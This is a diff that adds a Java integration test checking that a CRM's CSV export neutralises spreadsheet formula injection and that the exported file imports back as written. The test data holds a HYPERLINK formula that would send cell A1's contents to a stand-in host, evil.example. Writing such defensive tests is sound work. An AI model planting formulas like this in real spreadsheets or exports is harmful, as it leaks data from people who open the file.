@@ -458,6 +458,35 @@ public class CrmIT extends TelephonyTestSupport {
     // ================================================================= CSV import and export
 
     @Test
+    public void anExportedFormulaIsTextInASpreadsheetAndImportsBackAsWritten() {
+        String a = createTenant("csvf", 2, 0);
+        String b = createTenant("csvg", 2, 0);
+        String evil = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点我\")";
+        Answer c = op("POST", "/tenants/" + a + "/customers", "{\"name\":" + json(evil) + ",\"phones\":[\"13800138077\"],"
+            + "\"tags\":[\"@SUM(A1:A9)\"]}");
+        assertEquals(c.toString(), 201, c.status);
+        String exported = exportCsv(a);
+        // OWASP: a cell a spreadsheet would evaluate starts with an apostrophe; the phone number stays a number
+        assertTrue(exported, exported.contains("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"点我\"\")\""));
+        assertTrue(exported, exported.contains("'@SUM(A1:A9)"));
+        assertTrue(exported, exported.contains(",+8613800138077,"));
+        // and the file imports back as what was exported
+        JsonNode copy = awaitImport(b, exported.getBytes(StandardCharsets.UTF_8), false);
+        assertEquals(copy.toString(), 1, copy.get("created").asInt());
+        JsonNode imported = op("GET", "/tenants/" + b + "/customers", null).json.get("items").get(0);
+        assertEquals(evil, imported.get("name").asText());
+        assertEquals("@SUM(A1:A9)", imported.get("tags").get(0).asText());
+    }
+
+    private static String json(String s) {
+        try {
+            return new com.fasterxml.jackson.databind.ObjectMapper().writeValueAsString(s);
+        } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
+            throw new IllegalStateException(e);
+        }
+    }
+
+    @Test
     public void csvImportExportRoundTripWithRejectedRowsAndMerge() {
         String a = createTenant("csva", 5, 0);
         String b = createTenant("csvb", 5, 0);
